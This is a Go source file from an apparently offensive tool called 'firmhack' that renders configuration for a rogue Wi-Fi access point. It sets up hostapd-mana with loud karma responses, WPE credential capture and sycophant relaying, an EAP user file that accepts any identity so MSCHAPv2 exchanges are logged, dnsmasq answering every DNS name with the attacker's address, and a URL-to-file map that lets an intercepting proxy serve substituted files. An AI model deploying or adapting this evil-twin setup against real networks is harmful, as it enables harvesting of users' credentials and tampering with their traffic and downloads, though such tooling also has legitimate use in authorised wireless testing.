// Package render turns a validated config into the text of every file
// the external tools read: the hostapd-mana config, the EAP user file,
// the dnsmasq config, the proxychains config and the address map
// consumed by the proxy addon.
//
// Every function here is pure.  Persisting the results is the
// orchestrator's job.
package render

import (
	"crypto/sha1"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"unicode/utf16"

	"golang.org/x/crypto/md4" //nolint:staticcheck // NT hashes are MD4 by definition
	"golang.org/x/crypto/pbkdf2"

	"firmhack/config"
)

// File names inside the working directory.
const (
	HostapdFile     = "hostapd.conf"
	EAPUserFile     = "hostapd.eap_user"
	DnsmasqFile     = "dnsmasq.conf"
	ProxychainsFile = "proxychains.conf"
	AddressesFile   = "addresses.json"
)

// File is one rendered file and where it goes.
type File struct {
	Path    string
	Content string
	Mode    os.FileMode
}

// Files renders everything the run needs, in the order it should be
// written.
func Files(cfg *config.Config) ([]File, error) {
	files := []File{
		{Path: cfg.Path(DnsmasqFile), Content: Dnsmasq(cfg), Mode: 0o600},
		{Path: cfg.Path(HostapdFile), Content: Hostapd(cfg), Mode: 0o600},
	}
	if cfg.Enterprise() {
		files = append(files, File{Path: cfg.Path(EAPUserFile), Content: EAPUsers(cfg), Mode: 0o600})
	}
	if cfg.General.ProxychainsCmd != "" {
		files = append(files, File{Path: cfg.Path(ProxychainsFile), Content: Proxychains(cfg.InterceptPort()), Mode: 0o644})
	}
	if cfg.EffectiveProxyMode() == config.ProxyInternal {
		addrs, err := Addresses(cfg)
		if err != nil {
			return nil, err
		}
		files = append(files, File{Path: cfg.Path(AddressesFile), Content: addrs, Mode: 0o644})
	}
	return files, nil
}

// Hostapd renders the hostapd-mana configuration.
func Hostapd(cfg *config.Config) string {
	var b strings.Builder
	b.WriteString("# generated by firmhack\n")
	fmt.Fprintf(&b, "interface=%s\n", cfg.AP.Interface)
	b.WriteString("driver=nl80211\n")
	fmt.Fprintf(&b, "ssid=%s\n", cfg.AP.Name)
	fmt.Fprintf(&b, "channel=%d\n", cfg.AP.Channel)
	b.WriteString("hw_mode=g\n")
	b.WriteString("enable_mana=1\n")
	fmt.Fprintf(&b, "mana_loud=%s\n", boolFlag(cfg.AP.Loud))

	if cfg.Enterprise() {
		b.WriteString("ieee8021x=1\n")
		b.WriteString("eap_server=1\n")
		fmt.Fprintf(&b, "eap_user_file=%s\n", cfg.Path(EAPUserFile))
		if cfg.AP.CACert != "" {
			fmt.Fprintf(&b, "ca_cert=%s\n", cfg.AP.CACert)
		}
		fmt.Fprintf(&b, "server_cert=%s\n", cfg.AP.ServerCert)
		fmt.Fprintf(&b, "private_key=%s\n", cfg.AP.PrivateKey)
		b.WriteString("mana_wpe=1\n")
		fmt.Fprintf(&b, "mana_credout=%s\n", cfg.Path("hostapd.credout"))
		b.WriteString("enable_sycophant=1\n")
		fmt.Fprintf(&b, "sycophant_dir=%s\n", cfg.General.Workdir)
		b.WriteString("wpa=2\n")
		b.WriteString("wpa_key_mgmt=WPA-EAP\n")
		b.WriteString("wpa_pairwise=TKIP\n")
		b.WriteString("rsn_pairwise=CCMP\n")
		return b.String()
	}

	if cfg.AP.Password != "" {
		b.WriteString("ieee80211n=1\n")
		b.WriteString("wpa=2\n")
		b.WriteString("wpa_key_mgmt=WPA-PSK\n")
		b.WriteString("wpa_pairwise=TKIP\n")
		b.WriteString("rsn_pairwise=CCMP\n")
		fmt.Fprintf(&b, "wpa_psk=%s\n", PSK(cfg.AP.Password, cfg.AP.Name))
	}
	return b.String()
}

// PSK derives the 256-bit WPA pre-shared key for passphrase and ssid
// (IEEE 802.11i: PBKDF2-SHA1, 4096 rounds) as 64 hex digits.
func PSK(passphrase, ssid string) string {
	key := pbkdf2.Key([]byte(passphrase), []byte(ssid), 4096, 32, sha1.New)
	return hex.EncodeToString(key)
}

// EAPUsers renders the hostapd EAP user file.  Phase 1 accepts any
// identity over the tunnelled methods; phase 2 offers the configured
// credential so MSCHAPv2 exchanges complete and are logged.
func EAPUsers(cfg *config.Config) string {
	user := cfg.AP.EAPUser
	if user == "" {
		user = "t"
	}
	var b strings.Builder
	b.WriteString("# generated by firmhack\n")
	b.WriteString("*\tPEAP,TTLS,TLS,FAST\n")
	secret := `"` + cfg.AP.EAPPassword + `"`
	if cfg.AP.EAPPassword != "" {
		secret = "hash:" + NTHash(cfg.AP.EAPPassword)
	}
	fmt.Fprintf(&b, "%q\tTTLS-PAP,TTLS-CHAP,TTLS-MSCHAP,MSCHAPV2,MD5,GTC,TTLS,TTLS-MSCHAPV2\t%s\t[2]\n", user, secret)
	return b.String()
}

// NTHash returns the NT password hash (MD4 of the UTF-16LE password)
// in hex, as accepted by the "hash:" prefix of hostapd's user file.
func NTHash(password string) string {
	units := utf16.Encode([]rune(password))
	buf := make([]byte, 0, len(units)*2)
	for _, u := range units {
		buf = append(buf, byte(u), byte(u>>8))
	}
	h := md4.New()
	h.Write(buf)
	return hex.EncodeToString(h.Sum(nil))
}

// Dnsmasq renders the DHCP/DNS responder configuration.  Every name
// resolves to the AP so clients land on the interception proxy when
// there is no upstream to forward to.
func Dnsmasq(cfg *config.Config) string {
	var b strings.Builder
	b.WriteString("# generated by firmhack\n")
	fmt.Fprintf(&b, "interface=%s\n", cfg.AP.Interface)
	fmt.Fprintf(&b, "listen-address=%s\n", cfg.AP.Address)
	b.WriteString("bind-interfaces\n")
	fmt.Fprintf(&b, "dhcp-range=%s,%s,%s,12h\n", cfg.AP.DHCPStart, cfg.AP.DHCPEnd, cfg.AP.Netmask)
	fmt.Fprintf(&b, "dhcp-option=3,%s\n", cfg.AP.Address)
	fmt.Fprintf(&b, "dhcp-option=6,%s\n", cfg.AP.Address)
	b.WriteString("dhcp-authoritative\n")
	b.WriteString("log-dhcp\n")
	b.WriteString("log-queries\n")
	if cfg.General.Upstream != "" {
		b.WriteString("server=1.1.1.1\n")
		b.WriteString("server=8.8.8.8\n")
		b.WriteString("no-resolv\n")
	} else {
		fmt.Fprintf(&b, "address=/#/%s\n", cfg.AP.Address)
	}
	fmt.Fprintf(&b, "log-facility=%s\n", cfg.Path("dnsmasq.log"))
	return b.String()
}

// Proxychains renders a proxychains config pointing at a local HTTP
// proxy on port.
func Proxychains(port int) string {
	return fmt.Sprintf("[ProxyList]\nhttp 127.0.0.1 %d\n", port)
}

// addressMapping is the addon-facing shape of one address entry.
type addressMapping struct {
	Address string            `json:"address"`
	File    string            `json:"file"`
	Headers map[string]string `json:"headers"`
}

// Addresses renders the URL-to-file map consumed by the proxy addon.
func Addresses(cfg *config.Config) (string, error) {
	out := make([]addressMapping, 0, len(cfg.Addresses))
	for _, a := range cfg.Addresses {
		headers := a.Headers
		if headers == nil {
			headers = map[string]string{}
		}
		out = append(out, addressMapping{Address: a.Address, File: a.File, Headers: headers})
	}
	data, err := json.MarshalIndent(out, "", "  ")
	if err != nil {
		return "", fmt.Errorf("rendering %s: %w", AddressesFile, err)
	}
	return string(data) + "\n", nil
}

func boolFlag(v bool) string {
	if v {
		return "1"
	}
	return "0"
}
